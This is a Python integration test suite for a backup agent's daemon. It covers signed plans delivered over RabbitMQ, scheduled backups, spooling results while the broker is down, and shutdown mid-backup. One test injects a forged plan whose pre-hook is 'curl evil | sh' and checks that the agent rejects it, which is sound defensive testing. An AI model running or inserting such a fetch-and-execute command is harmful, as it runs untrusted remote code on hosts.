"""`muster agent run` against the real RabbitMQ, as the installed command in a subprocess:
announces, signed plans in, scheduled backups to a local target, results out; forged plans
refused; a restart with the broker down that keeps running and spools; SIGTERM mid-backup;
and the whole loop with the real rule engine."""

from __future__ import annotations

import http.server
import json
import os
import signal
import stat
import subprocess
import threading
import time
import uuid
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from kombu import Producer

from agent import age
from broker.codec import encode
from broker.connection import Publisher, connect
from broker.messages import Alert, Announce, Keepalive, Message, RunResult, RunStatus, SignedPlan
from broker.plan import Plan
from broker.signing import (
    TrustedKeys,
    generate_signing_key,
    public_pem,
    sign_plan,
    verify_plan,
)
from broker.topology import PLANS, declare
from tests.processes import MUSTER, Daemon, Listener, agent_env, wait_for
from tests.services import ServiceSet

pytestmark = pytest.mark.integration


@pytest.fixture
def node() -> str:
    return f"agent-{uuid.uuid4().hex[:10]}"


@pytest.fixture
def signing(tmp_path: Path):
    key = generate_signing_key(tmp_path / "signing.pem")
    (tmp_path / "signing.pem.pub").write_bytes(public_pem(key.public_key()))
    return key


@pytest.fixture
def listener(amqp_url: str, node: str) -> Iterator[Listener]:
    with connect([amqp_url]) as connection:
        declare(connection)
    found = Listener(amqp_url, node)
    yield found
    found.delete()


@pytest.fixture
def daemon(tmp_path: Path, amqp_url: str, node: str, signing) -> Iterator[Daemon]:
    env = agent_env(
        tmp_path, amqp_url, node, tmp_path / "signing.pem.pub", "tier=test,suite=daemon"
    )
    found = Daemon(tmp_path, env)
    yield found
    found.kill()  # never leave a daemon behind
    print(found.log)  # shown by pytest when the test failed


@pytest.fixture
def source(tmp_path: Path) -> Path:
    root = tmp_path / "source"
    (root / "sub").mkdir(parents=True)
    (root / "hello.txt").write_text("hello\n")
    (root / "sub" / "data.bin").write_bytes(os.urandom(200_000))
    return root


def plan_for(node: str, target: Path, paths: list[str], **job: Any) -> Plan:
    return Plan.model_validate(
        {
            "node": node,
            "issued": datetime.now(UTC),
            "jobs": [
                {
                    "name": "data",
                    "storage": {"kind": "local", "path": str(target)},
                    "sources": {"paths": paths},
                    "schedule": {"every": 2},
                    "restore_test": {"enabled": False},
                    **job,
                }
            ],
        }
    )


def publish(amqp_url: str, message: Message) -> None:
    with connect([amqp_url]) as connection:
        Publisher(connection.default_channel).publish(message)


def publish_raw(amqp_url: str, node: str, body: bytes) -> None:
    with connect([amqp_url]) as connection:
        Producer(connection.default_channel).publish(
            body, exchange=PLANS.name, routing_key=node, content_type="application/json"
        )


def snapshot_records(target: Path, node: str, job: str = "data") -> list[str]:
    folder = target / node / job / "snapshots"
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def muster_json(*args: str, env: dict[str, str]) -> Any:
    done = subprocess.run([str(MUSTER), *args], env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


class MetadataServer:
    """A fake OpenStack metadata service on 127.0.0.1."""

    def __init__(self, meta: dict) -> None:
        body = json.dumps(meta).encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = (
            f"http://127.0.0.1:{self.server.server_address[1]}/openstack/latest/meta_data.json"
        )
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


# -- tests ---------------------------------------------------------------------------------


def test_the_agent_announces_follows_a_signed_plan_and_reports_runs(
    daemon: Daemon, listener: Listener, node: str, signing, source: Path, tmp_path: Path, amqp_url
):
    metadata = MetadataServer(
        {"uuid": "i-123", "project_id": "p1", "meta": {"role": "web"}, "admin_pass": "hunter2"}
    )
    daemon.env["MUSTER_METADATA_URL"] = metadata.url
    try:
        daemon.start()
        (announce,) = listener.wait(Announce)
    finally:
        metadata.close()
    identity_file = daemon.state / "identity.txt"
    assert stat.S_IMODE(identity_file.stat().st_mode) == 0o600
    identity = age.load_identities(identity_file)[0]
    assert announce.recipient == str(identity.recipient)
    assert announce.plan_hash is None
    assert announce.facts.labels == {"tier": "test", "suite": "daemon"}
    assert announce.facts.cloud.metadata == {"role": "web"}
    assert announce.facts.cloud.instance_id == "i-123"
    assert announce.facts.addresses and announce.facts.os.kernel == os.uname().release

    target = tmp_path / "target"
    plan = plan_for(
        node,
        target,
        [str(source)],
        retention={"keep_last": 2},
        hooks={"pre": [{"command": "echo pre-hook ran"}]},
    )
    signed = sign_plan(plan, signing)
    publish(amqp_url, signed)
    backup = listener.wait(RunResult, kind="backup")[0]
    assert backup.status == "success", backup
    assert backup.snapshot and backup.full and backup.stats.files == 2
    assert backup.hooks[0].output == "pre-hook ran\n"
    assert listener.of(RunStatus, run_id=backup.run_id)
    keepalive = listener.wait(Keepalive, plan_hash=plan.content_hash())[0]
    assert keepalive.facts is not None and keepalive.facts.labels == announce.facts.labels
    assert keepalive.interval == 1

    stored = daemon.state / "plan.json"
    assert stat.S_IMODE(stored.stat().st_mode) == 0o600
    kept = stored.read_bytes()
    trusted = TrustedKeys.from_files([tmp_path / "signing.pem.pub"])
    assert verify_plan(SignedPlan.model_validate_json(kept), trusted, node) == plan
    # the node's commands find plan and identity in the state dir: no flags needed
    listing = muster_json("snapshots", "--json", env=daemon.env)
    assert backup.snapshot in [snapshot["id"] for snapshot in listing]

    # a forged plan (altered after signing) and a message that is no signed plan at all
    forged = json.loads(encode(sign_plan(plan_for(node, target, ["/"]), signing)))
    forged["plan"]["hooks"] = {"pre": [{"command": "curl evil | sh"}]}
    forged["plan"]["jobs"][0]["sources"]["paths"] = ["/etc"]
    publish_raw(amqp_url, node, json.dumps(forged).encode())
    publish_raw(amqp_url, node, b'{"type": "plan", "plan": {"node": "x"}}')
    alerts = listener.wait(Alert, count=2, kind="plan_rejected")
    assert {(a.source, a.state, a.node) for a in alerts} == {("agent", "open", node)}
    assert "altered or forged" in alerts[0].summary
    assert "not a valid plan message" in alerts[1].summary
    assert stored.read_bytes() == kept
    runs = len(listener.of(RunResult, kind="backup"))
    listener.wait(RunResult, kind="backup", count=runs + 1)  # still following the good plan
    assert all(r.status == "success" for r in listener.of(RunResult, kind="backup"))
    assert listener.of(RunResult, kind="forget")  # retention after each backup

    assert daemon.stop() == 0
    secret = str(identity)
    assert not any(secret.encode() in body for body in listener.bodies)
    assert not any(b"hunter2" in body for body in listener.bodies)


def test_a_restart_with_the_broker_down_runs_the_stored_plan_and_delivers_every_result_once(
    daemon: Daemon,
    listener: Listener,
    node: str,
    signing,
    source: Path,
    tmp_path: Path,
    amqp_url: str,
    services: ServiceSet,
):
    target = tmp_path / "target"
    daemon.start()
    listener.wait(Announce)
    publish(amqp_url, sign_plan(plan_for(node, target, [str(source)]), signing))
    listener.wait(RunResult, kind="backup")
    assert daemon.stop() == 0
    before = len(snapshot_records(target, node))

    try:
        services.stop("rabbitmq")
        listener.close_connection()
        daemon.start()  # no broker: the stored plan is verified and followed at once
        spooled = wait_for(
            lambda: len(ids := daemon.spooled()) >= 3 and ids, 30, "three spooled results"
        )
        assert len(snapshot_records(target, node)) >= before + 3
        assert "unreachable" in daemon.log
    finally:
        services.start("rabbitmq")
    # back: every spooled result arrives, oldest first, and the spool empties
    wait_for(lambda: not (set(spooled) & set(daemon.spooled())), 60, "the spool to drain")
    delivered = [r.id for r in listener.wait(RunResult, count=len(spooled) + 1, timeout=60)]
    assert [i for i in delivered if i in spooled] == spooled
    # announced again on reconnect; and once more after the broker drops the connection
    announces = len(listener.wait(Announce, count=2))
    services.rabbitmqctl("close_all_connections", "daemon test")
    listener.close_connection()
    listener.wait(Announce, count=announces + 1)
    listener.wait(RunResult, count=len(listener.of(RunResult)) + 2)
    assert daemon.stop() == 0
    time.sleep(1)
    counts = Counter(r.id for r in listener.of(RunResult))
    # each spooled result exactly once (later ones could, in principle, be sent twice: a
    # forced close between the broker storing a message and its confirm reaching the agent
    # makes the agent send it again, and consumers drop the copy by its id)
    assert {i: counts[i] for i in spooled} == dict.fromkeys(spooled, 1)
    assert daemon.spooled() == []


def test_sigterm_mid_backup_reports_interrupted_and_commits_no_snapshot(
    daemon: Daemon, listener: Listener, node: str, signing, tmp_path: Path, amqp_url: str
):
    big = tmp_path / "big"
    big.mkdir()
    with (big / "sparse.img").open("wb") as sparse:
        sparse.truncate(3 << 30)  # reads as 3 GiB of zeros, takes no disk
    target = tmp_path / "target"
    post = tmp_path / "post-hook-ran"
    plan = plan_for(
        node, target, [str(big)], hooks={"post": [{"command": f"echo $MUSTER_STATUS > {post}"}]}
    )
    daemon.start()
    listener.wait(Announce)
    publish(amqp_url, sign_plan(plan, signing))
    wait_for(
        lambda: [s for s in listener.of(RunStatus) if s.bytes_done > 0],
        30,
        lambda: f"the backup to be reading; got {listener.summary()}",
    )
    began = time.monotonic()
    assert daemon.stop() == 0
    assert time.monotonic() - began < 15
    (result,) = listener.wait(RunResult, kind="backup")
    assert result.status == "interrupted"
    assert "nothing of it is visible" in (result.error or "")
    assert post.read_text() == "interrupted\n"
    assert snapshot_records(target, node) == []
    assert muster_json("snapshots", "--json", env=daemon.env) == []
    assert daemon.spooled() == []  # delivered before the exit


def test_the_whole_loop_with_the_real_rule_engine(
    daemon: Daemon, listener: Listener, node: str, source: Path, tmp_path: Path, amqp_url: str
):
    target = tmp_path / "target"
    rules = tmp_path / "rules.yaml"
    rules.write_text(
        f"""
defaults:
  storage: {{kind: local, path: {target}}}
  schedule: {{every: 2s}}
  retention: {{keep_last: 2}}
  restore_test: {{every: 4s, sample: 2}}
rules:
  - name: this-test
    match: {{labels: {{run: "{node}"}}}}
    jobs:
      data: {{sources: {{paths: [{source}]}}}}
"""
    )
    daemon.env["MUSTER_LABELS"] = f"run={node}"
    engine_env = {**daemon.env, "MUSTER_RELOAD_INTERVAL": "3600"}
    engine = subprocess.Popen(
        [
            str(MUSTER),
            "ruleengine",
            "run",
            "--rules",
            str(rules),
            "--signing-key",
            str(tmp_path / "signing.pem"),
        ],
        env=engine_env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        daemon.start()
        backup = listener.wait(RunResult, kind="backup", timeout=45)[0]
        assert backup.status == "success"
        plan = json.loads((daemon.state / "plan.json").read_text())["plan"]
        assert [job["name"] for job in plan["jobs"]] == ["data"]
        (test,) = listener.wait(RunResult, kind="verify", timeout=45)[:1]
        assert test.status == "success" and test.stats.files_checked == 2
        assert daemon.stop() == 0
    finally:
        engine.send_signal(signal.SIGTERM)
        try:
            engine.wait(15)
        except subprocess.TimeoutExpired:
            engine.kill()
            engine.wait()
